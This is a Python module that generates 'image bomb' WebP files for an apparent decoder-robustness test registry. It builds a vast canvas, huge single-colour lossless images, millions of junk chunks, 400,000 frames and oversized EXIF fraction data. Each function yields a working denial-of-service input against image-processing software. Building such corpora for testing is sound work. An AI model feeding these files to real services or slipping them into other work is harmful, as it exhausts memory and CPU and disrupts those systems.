"""WebP bombs: canvases, floods of chunks and frames, and EXIF."""

import zoo
from image_formats import riff_chunk, split_chunks, webp, webp_header
from PIL import Image

from image_bombs.registry import SIDE, bomb, exif_fractions, fill


@bomb
def webp_vast_canvas() -> bytes:
    """A canvas of 13,000 x 13,000 pixels with a frame of one pixel."""
    ((_, still), *_rest) = split_chunks(zoo.encode(Image.new("RGBA", (1, 1)), "WEBP", lossless=True)[12:])
    frame = bytes(12) + b"\1\0\0\0" + riff_chunk(b"VP8L", still)
    return webp(webp_header(SIDE, SIDE, 18), riff_chunk(b"ANIM", bytes(6)), riff_chunk(b"ANMF", frame))


@bomb
def webp_vast_lossless() -> bytes:
    """13,000 x 13,000 lossless pixels of one colour."""
    return _lossless_webp(SIDE)


@bomb
def webp_large_lossless() -> bytes:
    """5,000 x 5,000 lossless pixels of one colour."""
    return _lossless_webp(5000)


def _lossless_webp(side: int) -> bytes:
    """Return an image of one colour, which takes no bits per pixel."""
    ((_, still), *_rest) = split_chunks(zoo.encode(Image.new("RGBA", (64, 64)), "WEBP", lossless=True)[12:])
    bits = int.from_bytes(still[1:5], "little") & ~((1 << 28) - 1) | (side - 1) << 14 | (side - 1)
    return webp(riff_chunk(b"VP8L", still[:1] + bits.to_bytes(4, "little") + still[5:] + bytes(1000)))


@bomb
def webp_unknown_chunks() -> bytes:
    """3.9 million unknown chunks."""
    ((kind, still), *_rest) = split_chunks(zoo.encode(Image.new("RGB", (32, 24)), "WEBP")[12:])
    return webp(webp_header(32, 24), riff_chunk(kind, still), fill(riff_chunk(b"junk")))


@bomb
def webp_frames() -> bytes:
    """400,000 frames."""
    ((_, still), *_rest) = split_chunks(zoo.encode(Image.new("RGBA", (1, 1)), "WEBP", lossless=True)[12:])
    frame = riff_chunk(b"ANMF", bytes(12) + b"\1\0\0\0" + riff_chunk(b"VP8L", still))
    return webp(webp_header(1, 1, 18), riff_chunk(b"ANIM", bytes(6)), fill(frame))


@bomb
def webp_exif_fractions() -> bytes:
    """EXIF whose orientation consists of 3.8 million fractions."""
    ((kind, still), *_rest) = split_chunks(zoo.encode(Image.new("RGB", (32, 24)), "WEBP")[12:])
    exif = riff_chunk(b"EXIF", exif_fractions(30_000_000))
    return webp(webp_header(32, 24, 8), riff_chunk(kind, still), exif)
